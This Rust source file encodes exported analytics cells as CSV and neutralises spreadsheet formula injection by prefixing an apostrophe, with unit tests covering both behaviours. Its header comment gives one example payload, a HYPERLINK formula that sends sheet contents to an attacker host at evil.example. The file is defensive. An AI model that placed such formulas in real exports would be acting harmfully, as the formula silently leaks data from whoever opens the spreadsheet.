//! CSV encoding of exported cells: RFC 4180 quoting, plus the OWASP defence against formula injection.
//!
//! Everything in an export came from a visitor's browser (titles, pages, props), and spreadsheets run a cell
//! that starts with `=`, `+`, `-` or `@` (or TAB / CR, which some strip first) as a formula — a page titled
//! `=HYPERLINK("https://evil.example/?"&A1)` would leak the sheet when the owner opens the export. Such a cell
//! gets a leading `'`, which spreadsheets read as "this is text" (OWASP, CSV Injection). Numbers written by
//! Footfall itself (`engaged_ms`, …) are not text and are written as they are.

/// A cell starting with one of these is read as a formula by spreadsheets.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Appends one text cell to `out`: neutralised if a spreadsheet would run it, then quoted when it contains a
/// separator, a quote or a line break (quotes doubled).
pub fn push_text(out: &mut String, value: &str) {
    let guard = value.starts_with(FORMULA_START);
    let quote = value.contains([',', '"', '\n', '\r']);
    if quote {
        out.push('"');
    }
    if guard {
        out.push('\'');
    }
    if quote {
        for c in value.chars() {
            if c == '"' {
                out.push('"');
            }
            out.push(c);
        }
        out.push('"');
    } else {
        out.push_str(value);
    }
}

/// One text cell as a string (for tests and headers).
pub fn text(value: &str) -> String {
    let mut out = String::with_capacity(value.len() + 2);
    push_text(&mut out, value);
    out
}

/// Records end with CRLF (RFC 4180).
pub const LINE_END: &str = "\r\n";

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_is_unchanged() {
        assert_eq!(text("Home"), "Home");
        assert_eq!(text(""), "");
        assert_eq!(text("/blog/post-1"), "/blog/post-1");
        assert_eq!(text("a-b=c"), "a-b=c", "only the first character matters");
        assert_eq!(text("Ünïcödé 日本"), "Ünïcödé 日本");
    }

    #[test]
    fn formula_starts_get_a_leading_apostrophe() {
        assert_eq!(text("+1"), "'+1");
        assert_eq!(text("-1"), "'-1");
        assert_eq!(text("@x"), "'@x");
        assert_eq!(text("=1+2"), "'=1+2");
        assert_eq!(text("\tcmd"), "'\tcmd");
        assert_eq!(text("=HYPERLINK(\"http://x\")"), "\"'=HYPERLINK(\"\"http://x\"\")\"");
    }

    #[test]
    fn separators_quotes_and_line_breaks_are_quoted() {
        assert_eq!(text("a,b"), "\"a,b\"");
        assert_eq!(text("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(text("one\ntwo"), "\"one\ntwo\"");
        assert_eq!(text("a, \"b\"\nc"), "\"a, \"\"b\"\"\nc\"");
        assert_eq!(text("\"quoted\""), "\"\"\"quoted\"\"\"");
    }

    #[test]
    fn a_carriage_return_start_is_both_guarded_and_quoted() {
        assert_eq!(text("\r=1"), "\"'\r=1\"");
        assert_eq!(text("-1,2"), "\"'-1,2\"");
    }
}
